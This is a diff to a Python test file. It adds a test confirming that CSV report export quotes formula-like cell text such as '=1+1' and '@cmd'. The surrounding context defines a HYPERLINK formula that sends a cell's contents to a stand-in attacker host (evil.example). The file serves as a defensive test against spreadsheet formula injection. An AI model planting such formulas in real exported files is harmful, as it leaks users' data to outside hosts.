@@ -16,6 +16,7 @@ from shipped_project import copy_project, edit
 
 from toolkit.content.cell_text import FORMULA_STARTS, guarded, unguarded
 from toolkit.content.yaml_loader import load_file
+from toolkit.sim.report_tables import export_tables
 
 ATTRACTIONS = "cards/midway-memories/attractions.yaml"
 LINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
@@ -121,3 +122,18 @@ def test_guarded_text_reads_back_unchanged(text: str) -> None:
     assert unguarded(written) == text
     if written.startswith(FORMULA_STARTS):  # only a number is left as it is
         float(written)
+
+
+def test_report_tables_as_csv_quote_formula_text(tmp_path: Path) -> None:
+    summary = {
+        "seats": [],
+        "targets": [{"label": "=1+1", "threshold": -3}],
+        "card_effects": [],
+        "balance": {},
+        "cards": {"hand": [{"card": "@cmd", "name": "-x", "plays": 2}]},
+        "setups": {},
+    }
+    written = export_tables([summary], tmp_path / "report.pdf", "csv")
+    text = {path.name: path.read_text(encoding="utf-8") for path in written}
+    assert text["report-targets.csv"] == "label,threshold\n'=1+1,-3\n"
+    assert text["report-cards_hand.csv"] == "card,name,plays\n'@cmd,'-x,2\n"
